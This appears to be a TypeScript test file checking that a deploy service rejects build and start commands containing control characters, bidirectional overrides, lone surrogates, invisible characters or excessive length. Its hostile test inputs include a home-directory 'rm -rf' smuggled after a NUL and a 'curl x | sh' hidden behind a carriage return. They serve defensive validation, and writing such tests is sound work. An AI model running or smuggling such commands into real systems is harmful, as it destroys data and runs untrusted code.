import test from 'ava';
import type { Stack } from '../helpers/stack.js';
import { QUICK_PHASES, usePipelineStack } from '../helpers/pipelineStack.js';
import { signedInWithKey, waitFinished } from '../helpers/pipeline.js';
import { MAX_COMMAND_CHARS } from '../../server/stacks/lines.js';

// Build and start commands typed into the deploy form (or sent by a script) follow the rule detected
// ones do (server/stacks/detect.ts): no control character but tab and line feed, no bidirectional
// override, no lone surrogate. Such a command is a 400 on its field, and nothing is recorded.

let stack: Stack;
usePipelineStack(test, { renderOptions: { phaseMs: QUICK_PHASES } }, (p) => ({ stack } = p));

test('a command with NUL, a terminal escape, CR, an override or a lone surrogate is a 400 on its field; tabs and line feeds are fine', async (t) => {
  const { agent } = await signedInWithKey(stack, 'typist');
  stack.github.addRepo({ owner: 'typist', name: 'app', branches: { main: { 'index.js': '' } } });
  const body = (over: object) => ({ github_repo: 'typist/app', project_name: 'typist', build_command: 'npm ci', start_command: 'node index.js', ...over });
  const hostile: Array<[string, string]> = [
    ['start_command', 'node index.js\u0000; rm -rf ~'], ['start_command', 'node index.js \u001b[2J'], ['build_command', 'npm ci\rcurl x | sh'],
    ['start_command', 'node \u202eindex.js'], ['build_command', 'npm ci \ud800'],
    // Characters that show as nothing (default-ignorable): what runs would differ from what the form shows.
    ['start_command', 'node\u2060 index.js'], ['build_command', 'npm\u200b ci'], ['start_command', 'node\u3164 index.js'],
  ];
  for (const [field, command] of hostile) {
    const res = await agent.post('/api/render/deploy', body({ [field]: command }));
    t.is(res.status, 400, `${JSON.stringify(command)}: ${res.text}`);
    t.is(res.json.error.field, field, res.text);
  }
  t.is((await agent.get('/api/render/my-deployments')).json.deployments.length, 0, 'nothing was recorded');
  const ok = await agent.post('/api/render/deploy', body({ build_command: 'npm ci &&\n\tnpm run build --if-present' }));
  t.is(ok.status, 202, ok.text);
  const done = await waitFinished(agent, ok.json.id, 60_000);
  t.is(done.request.buildCommand, 'npm ci &&\n\tnpm run build --if-present');
});

test('a command is accepted up to MAX_COMMAND_CHARS, the length detection may propose; one past it is a 400 on its field', async (t) => {
  const { agent } = await signedInWithKey(stack, 'lengthy');
  stack.github.addRepo({ owner: 'lengthy', name: 'app', branches: { main: { 'index.js': '' } } });
  const atCap = `echo ${'z'.repeat(MAX_COMMAND_CHARS - 5)}`;
  const body = (over: object) => ({ github_repo: 'lengthy/app', project_name: 'lengthy', start_command: 'node index.js', ...over });
  const over = await agent.post('/api/render/deploy', body({ build_command: `${atCap}z` }));
  t.is(over.status, 400, over.text);
  t.is(over.json.error.field, 'build_command', over.text);
  t.regex(over.json.error.message, /4096|4,096/);
  const ok = await agent.post('/api/render/deploy', body({ build_command: atCap }));
  t.is(ok.status, 202, ok.text);
  t.is(ok.json.request.buildCommand, atCap);
});
